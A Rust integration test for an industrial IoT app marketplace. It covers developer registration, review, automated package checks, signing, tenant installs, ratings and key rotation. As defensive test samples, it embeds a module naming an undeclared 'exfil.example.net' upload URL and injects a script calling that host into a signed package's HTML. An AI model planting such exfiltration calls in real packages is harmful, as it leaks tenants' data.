//! The marketplace end to end on a real `ironloom serve`: a developer registers, a
//! reviewer verifies it; its packages go through the automated checks (a good one passes
//! every check including its own fixtures run in the sandbox; a failing fixture, an
//! undeclared host call and an undeclared URL are each caught with a report); the
//! reviewer approves (the platform signs) or rejects; a tenant installs the release and
//! the app runs on its telemetry; a package changed after signing is refused; key
//! rotation keeps old releases valid until their key is revoked.

use crate::support::{Api, Server, until};
use ironloom_apps::package::{files_of_dir, pack};
use serde_json::{Value, json};
use std::collections::BTreeMap;

pub(crate) const DEV_PASSWORD: &str = "Developer-pass-1";
pub(crate) const REVIEWER_PASSWORD: &str = "Reviewer-pass-1";

pub(crate) fn app_files(app: &str) -> BTreeMap<String, Vec<u8>> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../apps")
        .join(app);
    files_of_dir(&dir).unwrap()
}

/// The files with the manifest's version (and optionally more) changed.
fn with_manifest(
    files: &BTreeMap<String, Vec<u8>>,
    change: impl FnOnce(&mut Value),
) -> BTreeMap<String, Vec<u8>> {
    let mut files = files.clone();
    let mut m: Value = serde_json::from_slice(&files["manifest.json"]).unwrap();
    change(&mut m);
    files.insert("manifest.json".into(), serde_json::to_vec(&m).unwrap());
    files
}

pub(crate) async fn submit(dev: &Api, files: &BTreeMap<String, Vec<u8>>, query: &str) -> Value {
    let (status, body) = dev
        .post_bytes(
            &format!("/api/v1/market/submissions{query}"),
            pack(files).unwrap(),
        )
        .await;
    assert_eq!(status, 202, "{body}");
    assert_eq!(body["status"], "checking");
    let id = body["id"].as_str().unwrap().to_string();
    until("the checks to finish", || async {
        let (_, s) = dev
            .call("GET", &format!("/api/v1/market/submissions/{id}"), None)
            .await;
        (s["status"] != "checking").then_some(s)
    })
    .await
}

fn check<'a>(sub: &'a Value, id: &str) -> &'a Value {
    sub["report"]["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == id)
        .unwrap_or_else(|| panic!("no {id} check in {sub}"))
}

#[tokio::test]
async fn publish_review_sign_install_and_refuse_tampering() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let admin = Api::platform_admin(&server).await;
    let tenant = Api::new_tenant(&server).await;

    // A developer registers itself; a second registration of the name is refused.
    let anon = reqwest::Client::new();
    let register = |user: &str, name: &str| {
        anon.post(format!("{}/api/v1/market/register", server.base))
            .json(&json!({"username": user, "password": DEV_PASSWORD, "name": name,
                "email": format!("{user}@example.com"), "organisation": "Acme Industrial Software"}))
            .send()
    };
    let r = register("acme-dev", "Acme Apps").await.unwrap();
    assert_eq!(r.status(), 201);
    let dev_account: Value = r.json().await.unwrap();
    assert_eq!(dev_account["status"], "pending");
    assert_eq!(dev_account["first_party"], false);
    let r = register("acme-dev2", "Acme Apps").await.unwrap();
    assert_eq!(r.status(), 409, "{}", r.text().await.unwrap());
    let r = register("ta", "Another").await.unwrap();
    assert_eq!(r.status(), 409, "a log-in name used in a tenant");
    let r = register("x y", "Bad").await.unwrap();
    assert_eq!(r.status(), 422);

    let dev = Api::login_as(&server, "acme-dev", DEV_PASSWORD, None).await;
    let good = app_files("pump-efficiency");
    assert!(
        good.keys().any(|k| k.starts_with("fixtures/")),
        "app pack takes the fixtures along"
    );
    // Not verified yet: it may not submit.
    let (status, body) = dev
        .post_bytes("/api/v1/market/submissions", pack(&good).unwrap())
        .await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("verify"),
        "{body}"
    );
    // A tenant's user is no developer, and no reviewer.
    let (status, body) = tenant.call("GET", "/api/v1/market/submissions", None).await;
    assert_eq!(
        (status, body["code"].as_str()),
        (403, Some("not_a_developer"))
    );
    let (status, _) = tenant
        .call("GET", "/api/v1/market/review/developers", None)
        .await;
    assert_eq!(status, 403);

    // The platform administrator makes a reviewer, who verifies the developer.
    let (status, body) = admin
        .call(
            "POST",
            "/api/v1/users",
            Some(json!({"username": "reviewer",
            "password": REVIEWER_PASSWORD, "role": "reviewer"})),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let reviewer = Api::login_as(&server, "reviewer", REVIEWER_PASSWORD, None).await;
    let pending = reviewer
        .get("/api/v1/market/review/developers?status=pending")
        .await;
    assert_eq!(pending["total"], 1, "{pending}");
    let dev_id = pending["items"][0]["id"].as_str().unwrap().to_string();
    let (status, body) = reviewer
        .call(
            "POST",
            &format!("/api/v1/market/review/developers/{dev_id}"),
            Some(json!({"status": "rejected"})),
        )
        .await;
    assert_eq!(status, 422, "a rejection needs a comment: {body}");
    let (status, body) = reviewer
        .call(
            "POST",
            &format!("/api/v1/market/review/developers/{dev_id}"),
            Some(json!({"status": "verified", "comment": "company checked"})),
        )
        .await;
    assert_eq!(
        (status, body["status"].as_str()),
        (200, Some("verified")),
        "{body}"
    );

    // A good package passes every check, its own fixtures included.
    let sub = submit(&dev, &good, "?changelog=First%20release").await;
    assert_eq!(sub["status"], "in_review", "{sub}");
    assert_eq!(sub["report"]["passed"], true);
    for id in [
        "package",
        "manifest",
        "modules",
        "permissions",
        "limits",
        "network",
        "fixtures",
    ] {
        assert_ne!(check(&sub, id)["outcome"], "failed", "{id}: {sub}");
    }
    assert_eq!(check(&sub, "fixtures")["outcome"], "passed");
    let fixtures = check(&sub, "fixtures")["details"].to_string();
    assert!(
        fixtures.contains("fixtures/basic.json: passed"),
        "{fixtures}"
    );
    let names = check(&sub, "permissions")["details"].to_string();
    assert!(
        names.contains("alarm.raise") && names.contains("write"),
        "{names}"
    );
    let first_id = sub["id"].as_str().unwrap().to_string();
    // The same version again while it waits: a conflict.
    let (status, _) = dev
        .post_bytes("/api/v1/market/submissions", pack(&good).unwrap())
        .await;
    assert_eq!(status, 409);

    // A fixture that expects the wrong number fails the fixtures check, naming it.
    let mut wrong = with_manifest(&good, |m| m["version"] = json!("1.0.1"));
    let mut fx: Value = serde_json::from_slice(&wrong["fixtures/basic.json"]).unwrap();
    let w = fx["expect"]["writes"][0]["values"].as_object_mut().unwrap();
    let k = w.keys().next().unwrap().clone();
    w.insert(k, json!(0.123));
    wrong.insert(
        "fixtures/basic.json".into(),
        serde_json::to_vec(&fx).unwrap(),
    );
    let s = submit(&dev, &wrong, "").await;
    assert_eq!(s["status"], "check_failed", "{s}");
    assert_eq!(check(&s, "fixtures")["outcome"], "failed");
    assert!(
        check(&s, "fixtures")["details"]
            .to_string()
            .contains("fixtures/basic.json: failed")
    );

    // A module that calls alarm.raise without declaring alarms: the permissions check.
    let undeclared = with_manifest(&good, |m| {
        m["version"] = json!("1.0.2");
        m["permissions"] =
            json!([{"kind": "read_telemetry"}, {"kind": "write_telemetry"}, {"kind": "models"}]);
    });
    let s = submit(&dev, &undeclared, "").await;
    assert_eq!(s["status"], "check_failed", "{s}");
    let p = check(&s, "permissions");
    assert_eq!(p["outcome"], "failed", "{p}");
    assert!(
        p["details"].to_string().contains("calls alarm.raise"),
        "{p}"
    );

    // A module naming a URL on a host it does not declare: the network check.
    let spy = wat::parse_str(
        r#"(module
            (import "ironloom" "log" (func (param i32 i32 i32)))
            (memory (export "memory") 1)
            (data (i32.const 1024) "https://exfil.example.net/upload\00")
            (func (export "ironloom_alloc") (param i32) (result i32) (i32.const 2048))
            (func (export "ironloom_on_event") (param i32 i32) (result i32) (i32.const 0)))"#,
    )
    .unwrap();
    let mut net = with_manifest(&good, |m| m["version"] = json!("1.0.3"));
    net.insert("modules/main.wasm".into(), spy);
    let s = submit(&dev, &net, "").await;
    assert_eq!(s["status"], "check_failed", "{s}");
    let n = check(&s, "network");
    assert_eq!(n["outcome"], "failed", "{n}");
    assert!(
        n["details"].to_string().contains("exfil.example.net"),
        "{n}"
    );

    // Another developer sees none of this developer's submissions.
    let r = register("other-dev", "Other Apps").await.unwrap();
    assert_eq!(r.status(), 201);
    let other = Api::login_as(&server, "other-dev", DEV_PASSWORD, None).await;
    let (status, _) = other
        .call(
            "GET",
            &format!("/api/v1/market/submissions/{first_id}"),
            None,
        )
        .await;
    assert_eq!(status, 404);
    assert_eq!(other.get("/api/v1/market/submissions").await["total"], 0);
    // A developer's API key acts for it in the portal.
    let (status, key) = dev
        .call("POST", "/api/v1/api-keys", Some(json!({"name": "ci"})))
        .await;
    assert_eq!(status, 201, "{key}");
    let mine = anon
        .get(format!("{}/api/v1/market/submissions", server.base))
        .header("x-api-key", key["key"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(mine.status(), 200);
    let mine: Value = mine.json().await.unwrap();
    assert_eq!(mine["total"], 4, "{mine}");
    assert_eq!(dev.get("/api/v1/api-keys").await["total"], 1);
    assert_eq!(other.get("/api/v1/api-keys").await["total"], 0);

    // The review queue holds the good one; a developer cannot approve.
    let queue = reviewer.get("/api/v1/market/review/submissions").await;
    assert_eq!(queue["total"], 1, "{queue}");
    let (status, _) = dev
        .call(
            "POST",
            &format!("/api/v1/market/review/submissions/{first_id}/approve"),
            Some(json!({})),
        )
        .await;
    assert_eq!(status, 403);
    let (status, release) = reviewer
        .call(
            "POST",
            &format!("/api/v1/market/review/submissions/{first_id}/approve"),
            Some(json!({"comment": "works on the demo pumps"})),
        )
        .await;
    assert_eq!(status, 201, "{release}");
    assert_eq!(release["changelog"], "First release");
    let key1 = release["key_id"].as_str().unwrap().to_string();
    let keys: Value = anon
        .get(format!("{}/api/v1/market/signing-keys", server.base))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(keys["keys"][0]["key_id"], key1.as_str());
    assert_eq!(keys["keys"][0]["state"], "active");
    let (status, _) = reviewer
        .call(
            "POST",
            &format!("/api/v1/market/review/submissions/{first_id}/approve"),
            Some(json!({})),
        )
        .await;
    assert_eq!(status, 422, "approved twice");

    // The tenant finds it, installs it with its consent, and it runs on its data.
    let releases = tenant.get("/api/v1/market/releases").await;
    assert_eq!(
        releases["items"][0]["app_id"], "pump.efficiency",
        "{releases}"
    );
    let product = tenant
        .product("pump", json!({"properties": [
            {"identifier": "flow", "name": "Flow", "data_type": {"type": "float", "unit": "m3/h"}},
            {"identifier": "head", "name": "Head", "data_type": {"type": "float", "unit": "m"}},
            {"identifier": "power", "name": "Shaft power", "data_type": {"type": "float", "unit": "kW"}},
            {"identifier": "eff", "name": "Efficiency", "data_type": {"type": "double"}},
            {"identifier": "hydraulic_power", "name": "Hydraulic power", "data_type": {"type": "double", "unit": "W"}}]}))
        .await;
    let pump = tenant.device(&product, "pump-01").await;
    let grant = json!([{"kind": "read_telemetry"}, {"kind": "write_telemetry"}, {"kind": "alarms"}, {"kind": "models"}]);
    let (status, body) = tenant
        .call(
            "POST",
            "/api/v1/market/releases/pump.efficiency/1.0.0/install",
            Some(json!({"name": "pumps", "grant": [{"kind": "commands"}], "products": ["pump"]})),
        )
        .await;
    assert_eq!(status, 422, "a grant beyond what the app asks for: {body}");
    let (status, inst) = tenant
        .call(
            "POST",
            "/api/v1/market/releases/pump.efficiency/1.0.0/install",
            Some(json!({"name": "pumps", "grant": grant, "products": ["pump"]})),
        )
        .await;
    assert_eq!(status, 201, "{inst}");
    let inst_id = inst["id"].as_str().unwrap().to_string();
    // The evaluation report's subscribers: the tenant, with the app it took (its own
    // list only).
    let subs = tenant
        .get("/api/v1/evaluation/tenant-records?list=subscribers")
        .await;
    assert_eq!(subs["total"], 1, "{subs}");
    assert_eq!(
        (
            subs["items"][0]["item"].as_str(),
            subs["items"][0]["detail"].as_str()
        ),
        (Some("pump.efficiency"), Some("1.0.0"))
    );
    assert!(subs["items"][0]["at"].is_string(), "{subs}");
    let mut dev_conn = crate::support::Dev::connect(&server, &pump.access_token).await;
    dev_conn
        .send(json!({"flow": 36.0, "head": 32.0, "power": 6.4}), None)
        .await;
    until("the app to write the efficiency", || async {
        let latest = tenant
            .get(&format!("/api/v1/devices/{}/telemetry/latest", pump.id))
            .await;
        latest.to_string().contains("\"eff\"").then_some(())
    })
    .await;

    // Installed from the store onto a gateway: the gateway's apps document carries the
    // store's package (the one the tenant took), for the agent to fetch and run.
    let gw_product = tenant.product_with("pumpGw", "gateway", json!({})).await;
    let gw = tenant.device(&gw_product, "edge-1").await;
    let (status, edge) = tenant
        .call(
            "POST",
            "/api/v1/market/releases/pump.efficiency/1.0.0/install",
            Some(
                json!({"name": "pumps-edge", "grant": grant, "products": ["pump"],
                "edge": {"gateway": "edge-1"}}),
            ),
        )
        .await;
    assert_eq!(status, 201, "{edge}");
    assert_eq!(edge["edge"]["gateway"], "edge-1");
    let taken = tenant.get("/api/v1/app-packages").await;
    let taken = taken
        .as_array()
        .or(taken["items"].as_array())
        .unwrap()
        .iter()
        .find(|p| p["app_id"] == "pump.efficiency")
        .cloned()
        .unwrap();
    let doc = tenant
        .get(&format!("/api/v1/devices/{}/gateway-apps", gw.id))
        .await;
    let pushed = &doc["document"]["installations"][0];
    assert_eq!(
        (&pushed["name"], &pushed["app_id"], &pushed["version"]),
        (
            &json!("pumps-edge"),
            &json!("pump.efficiency"),
            &json!("1.0.0")
        ),
        "{doc}"
    );
    assert_eq!(pushed["digest"], taken["digest"], "{doc} {taken}");
    assert!(pushed["parts"].as_u64().unwrap() >= 1, "{doc}");

    // The catalogue finds it in both languages beside the model library; its listing
    // page; a rating by the tenant that installed it, not by one that did not.
    let found = tenant.get("/api/v1/market/catalogue?q=水泵效率").await;
    assert_eq!(found["items"][0]["id"], "pump.efficiency", "{found}");
    assert_eq!(found["items"][0]["first_party"], false);
    assert_eq!(found["items"][0]["installations"], 2, "{found}");
    let found = tenant
        .get("/api/v1/market/catalogue?q=pumps&kind=app")
        .await;
    assert_eq!(found["total"], 1, "{found}");
    let models = tenant
        .get("/api/v1/market/catalogue?kind=model&page_size=5")
        .await;
    assert!(models["total"].as_u64().unwrap() > 5, "{models}");
    let none = tenant
        .get("/api/v1/market/catalogue?q=pump&industry=A01")
        .await;
    assert_eq!(none["total"], 0);
    let (status, _) = tenant
        .call("GET", "/api/v1/market/catalogue?kind=plugin", None)
        .await;
    assert_eq!(status, 422);
    let page = tenant.get("/api/v1/market/apps/pump.efficiency").await;
    assert_eq!(page["versions"].as_array().unwrap().len(), 1, "{page}");
    assert_eq!(page["versions"][0]["changelog"], "First release");
    assert_eq!(page["icon"], "icon.svg");
    assert_eq!(page["held"], true);
    assert!(page["readme"].as_str().unwrap().len() > 100);
    assert_eq!(page["permissions"].as_array().unwrap().len(), 4);
    let icon = reqwest::Client::new()
        .get(format!(
            "{}/api/v1/market/apps/pump.efficiency/files/icon.svg",
            server.base
        ))
        .bearer_auth(tenant.token())
        .send()
        .await
        .unwrap();
    assert_eq!(icon.status(), 200);
    assert_eq!(icon.headers()["content-type"], "image/svg+xml");
    assert!(
        icon.headers()["content-security-policy"]
            .to_str()
            .unwrap()
            .contains("sandbox")
    );
    let (status, _) = tenant
        .call(
            "GET",
            "/api/v1/market/apps/pump.efficiency/files/manifest.json",
            None,
        )
        .await;
    assert_eq!(status, 404);
    let (status, _) = tenant
        .call(
            "PUT",
            "/api/v1/market/apps/pump.efficiency/review",
            Some(json!({"rating": 6})),
        )
        .await;
    assert_eq!(status, 422);
    let (status, r) = tenant
        .call(
            "PUT",
            "/api/v1/market/apps/pump.efficiency/review",
            Some(json!({"rating": 5, "title": "准确", "body": "与现场流量计对得上"})),
        )
        .await;
    assert_eq!((status, r["version"].as_str()), (200, Some("1.0.0")), "{r}");
    let (status, _) = tenant
        .call(
            "PUT",
            "/api/v1/market/apps/pump.efficiency/review",
            Some(json!({"rating": 4})),
        )
        .await;
    assert_eq!(status, 200, "editable");
    let reviews = tenant
        .get("/api/v1/market/apps/pump.efficiency/reviews")
        .await;
    assert_eq!(
        (
            reviews["total"].as_u64(),
            reviews["items"][0]["rating"].as_u64()
        ),
        (Some(1), Some(4)),
        "{reviews}"
    );
    let plant2 = Api::new_tenant_named(&server, "plant2", "tb").await;
    let (status, body) = plant2
        .call(
            "PUT",
            "/api/v1/market/apps/pump.efficiency/review",
            Some(json!({"rating": 1})),
        )
        .await;
    assert_eq!(status, 422, "a tenant that never installed it: {body}");
    let rated = tenant
        .get("/api/v1/market/catalogue?q=pump&min_rating=4")
        .await;
    assert_eq!(rated["items"][0]["rating"], 4.0, "{rated}");

    // A package changed after signing is refused, with the reason.
    let signed = tenant
        .get_text("/api/v1/market/releases/pump.efficiency/1.0.0/package")
        .await;
    assert_eq!(signed.0, 200);
    let (_, signed_bytes) = raw_get(
        &server,
        tenant.token(),
        "/api/v1/market/releases/pump.efficiency/1.0.0/package",
    )
    .await;
    let pkg = ironloom_apps::AppPackage::read(&signed_bytes, &Default::default(), None).unwrap();
    assert!(pkg.signature.is_some());
    let mut files = pkg.files.clone();
    files.insert(
        "signature.json".into(),
        serde_json::to_vec(pkg.signature.as_ref().unwrap()).unwrap(),
    );
    let mut ui = files["ui/index.html"].clone();
    ui.extend_from_slice(b"<script>fetch('https://exfil.example.net')</script>");
    files.insert("ui/index.html".into(), ui);
    let (status, body) = tenant
        .post_bytes("/api/v1/app-packages", pack(&files).unwrap())
        .await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("changed after it was signed"),
        "{body}"
    );
    // The untouched signed package is accepted as is.
    let (status, body) = tenant
        .post_bytes("/api/v1/app-packages", signed_bytes.clone())
        .await;
    assert!(status == 201, "{status} {body}");

    // Key rotation: a new version is signed with the new key; the old release still
    // verifies until its key is revoked.
    let (status, key2) = reviewer
        .call("POST", "/api/v1/market/signing-keys/rotate", None)
        .await;
    assert_eq!(status, 201, "{key2}");
    let next = with_manifest(&good, |m| m["version"] = json!("1.1.0"));
    let s = submit(&dev, &next, "?channel=beta").await;
    assert_eq!(s["status"], "in_review", "{s}");
    let (status, rel2) = reviewer
        .call(
            "POST",
            &format!(
                "/api/v1/market/review/submissions/{}/approve",
                s["id"].as_str().unwrap()
            ),
            Some(json!({})),
        )
        .await;
    assert_eq!(status, 201, "{rel2}");
    assert_eq!(rel2["key_id"], key2["key_id"]);
    assert_eq!(rel2["channel"], "beta");
    let (status, body) = tenant
        .call(
            "POST",
            "/api/v1/market/releases/pump.efficiency/1.1.0/acquire",
            None,
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = tenant
        .call(
            "POST",
            &format!("/api/v1/app-installations/{inst_id}/upgrade"),
            Some(json!({"version": "1.1.0"})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = tenant
        .call(
            "POST",
            &format!("/api/v1/app-installations/{inst_id}/rollback"),
            None,
        )
        .await;
    assert_eq!(
        (status, body["version"].as_str()),
        (200, Some("1.0.0")),
        "{body}"
    );
    let (status, _) = tenant
        .call(
            "POST",
            "/api/v1/market/releases/pump.efficiency/1.0.0/acquire",
            None,
        )
        .await;
    assert_eq!(status, 201, "a retired key still verifies");
    let (status, _) = reviewer
        .call(
            "POST",
            &format!("/api/v1/market/signing-keys/{key1}/revoke"),
            None,
        )
        .await;
    assert_eq!(status, 200);
    let (status, body) = tenant
        .call(
            "POST",
            "/api/v1/market/releases/pump.efficiency/1.0.0/acquire",
            None,
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("revoked"),
        "{body}"
    );

    // A rejection says why; a withdrawal before review.
    let third = with_manifest(&good, |m| m["version"] = json!("1.2.0"));
    let s = submit(&dev, &third, "").await;
    let sid = s["id"].as_str().unwrap();
    let (status, _) = reviewer
        .call(
            "POST",
            &format!("/api/v1/market/review/submissions/{sid}/reject"),
            Some(json!({})),
        )
        .await;
    assert_eq!(status, 422, "a rejection needs a comment");
    let (status, body) = reviewer
        .call(
            "POST",
            &format!("/api/v1/market/review/submissions/{sid}/reject"),
            Some(json!({"comment": "the panel shows no units"})),
        )
        .await;
    assert_eq!(
        (status, body["status"].as_str()),
        (200, Some("rejected")),
        "{body}"
    );
    let seen = dev.get(&format!("/api/v1/market/submissions/{sid}")).await;
    assert_eq!(seen["review_comment"], "the panel shows no units");
    let fourth = with_manifest(&good, |m| m["version"] = json!("1.3.0"));
    let s = submit(&dev, &fourth, "").await;
    let (status, body) = dev
        .call(
            "POST",
            &format!(
                "/api/v1/market/submissions/{}/withdraw",
                s["id"].as_str().unwrap()
            ),
            None,
        )
        .await;
    assert_eq!(
        (status, body["status"].as_str()),
        (200, Some("withdrawn")),
        "{body}"
    );
    // Another developer cannot take the app id.
    let (status, body) = other
        .post_bytes(
            "/api/v1/market/submissions",
            pack(&with_manifest(&good, |m| m["version"] = json!("9.0.0"))).unwrap(),
        )
        .await;
    assert_eq!(status, 422, "not verified, or not its id: {body}");

    // Every step is in the audit log.
    let audit = admin.get("/api/v1/audit?resource=submission").await;
    assert!(audit.to_string().contains("approve"), "{audit}");
}

async fn raw_get(server: &Server, token: &str, path: &str) -> (u16, Vec<u8>) {
    let r = reqwest::Client::new()
        .get(format!("{}{path}", server.base))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.bytes().await.unwrap().to_vec())
}
